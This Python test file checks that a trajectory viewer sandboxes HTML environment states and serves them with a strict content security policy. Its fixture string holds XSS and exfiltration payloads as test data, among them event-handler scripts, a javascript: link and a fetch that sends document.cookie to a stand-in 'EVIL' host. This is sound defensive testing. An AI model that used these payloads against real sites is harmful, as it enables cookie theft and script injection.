"""States that environments rendered as HTML, in a browser: shown, and without access to anything."""

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread

import pytest
from server_for_tests import client as client_of
from server_for_tests import episode, make_run, turn

from browser_fixtures_for_tests import ConnectedBrowser
from opened_page_for_tests import OpenedPage, expect, serving_app
from turnwise.viewer.access import AccessPolicy
from turnwise.viewer.api import make_app

TOKEN = "correct-horse-battery"
HOSTILE = """
<base href="EVIL/base/"><link rel="stylesheet" href="EVIL/css"><link rel="prefetch" href="EVIL/prefetch">
<meta http-equiv="refresh" content="0;url=EVIL/refresh">
<style>@import url(EVIL/import); body { background: url(EVIL/background) } p { color: rgb(1, 2, 3) }</style>
<script>parent.ran = 1; fetch("EVIL/fetch?" + document.cookie); fetch("/api/runs")</script>
<img src="x" onerror="parent.ran = 1"><img src="EVIL/image"><svg onload="parent.ran = 1"></svg>
<iframe src="EVIL/frame"></iframe><iframe src="/api/runs" id="runs"></iframe><object data="EVIL/object"></object>
<p>the state</p>
<form action="EVIL/form"><button id="submit">submit</button></form>
<a href="EVIL/top" target="_top" id="top">top</a> <a href="EVIL/new" target="_blank" id="new">new</a>
<a href="javascript:parent.ran = 1" id="script">script</a> <a href="EVIL/self" id="self">self</a>
"""


def picture(html: str) -> dict[str, object]:
    return {"rows": [], "caption": "", "info": {}, "html": html}


@pytest.fixture
def foreign() -> Iterator[tuple[str, list[str]]]:
    """Address of another server, and the paths that were requested from it."""
    requested: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def parse_request(self) -> bool:
            is_valid = super().parse_request()
            requested.append(self.path)
            return is_valid

        def log_message(self, format: str, *args: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", requested
        server.shutdown()
        thread.join()


@pytest.fixture
def opened(tmp_path: Path, foreign: tuple[str, list[str]], connected_browser: ConnectedBrowser) -> Iterator[OpenedPage]:
    hostile = picture(HOSTILE.replace("EVIL", foreign[0]))
    make_run(tmp_path / "html", [episode(start=picture("<p>the start</p>"), turns=[turn(picture=hostile)])])
    policy = AccessPolicy(token=TOKEN)
    with serving_app(lambda port: make_app(tmp_path, policy)) as address, connected_browser.in_use() as browser:
        context = browser.new_context()
        try:
            with OpenedPage(context.new_page(), address) as page:
                page.page.goto(f"{address}?token={TOKEN}")
                page.open("trajectory", run="html", number=0)
                yield page
        finally:
            context.close()


def test_state_is_shown_and_follows_the_slider(opened: OpenedPage) -> None:
    page = opened.page
    frame = page.frame_locator("iframe.picture")
    expect(frame.locator("p")).to_have_text("the start")
    assert page.locator("iframe.picture").get_attribute("sandbox") == ""
    page.keyboard.press("ArrowRight")
    expect(frame.locator("p")).to_have_text("the state")
    assert frame.locator("p").evaluate("each => getComputedStyle(each).color") == "rgb(1, 2, 3)"


def test_hostile_state_reaches_neither_the_page_nor_a_network(
    opened: OpenedPage, foreign: tuple[str, list[str]]
) -> None:
    page = opened.page
    page.keyboard.press("ArrowRight")
    frame = page.frame_locator("iframe.picture")
    expect(frame.locator("p")).to_have_text("the state")
    (shown,) = [each for each in page.frames if "/api/html" in each.url]
    assert shown.evaluate("origin") == "null"
    address = page.url
    for name in ("script", "submit", "new", "top", "self"):
        frame.locator(f"#{name}").click(no_wait_after=True)
        page.wait_for_timeout(300)
    page.wait_for_timeout(1000)
    assert foreign[1] == []
    assert page.url == address
    assert page.evaluate("window.ran") is None
    assert len(page.context.pages) == 1


def test_state_has_a_strict_policy_wherever_it_is_opened(tmp_path: Path) -> None:
    make_run(tmp_path / "html", [episode(turns=[turn(picture=picture("<p>a</p>")), turn()])])
    client = client_of(tmp_path)
    response = client.get("/api/html", params={"run": "html", "number": 0, "turn": 0})
    policy = response.headers["content-security-policy"]
    assert response.headers["content-type"].startswith("text/html")
    assert policy.startswith("sandbox; default-src 'none';")
    assert "frame-ancestors 'self'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    for turn_index in (-1, 1, 2, 10**6):
        missing = client.get("/api/html", params={"run": "html", "number": 0, "turn": turn_index})
        assert missing.status_code == 404
        assert "frame-ancestors 'none'" in missing.headers["content-security-policy"]
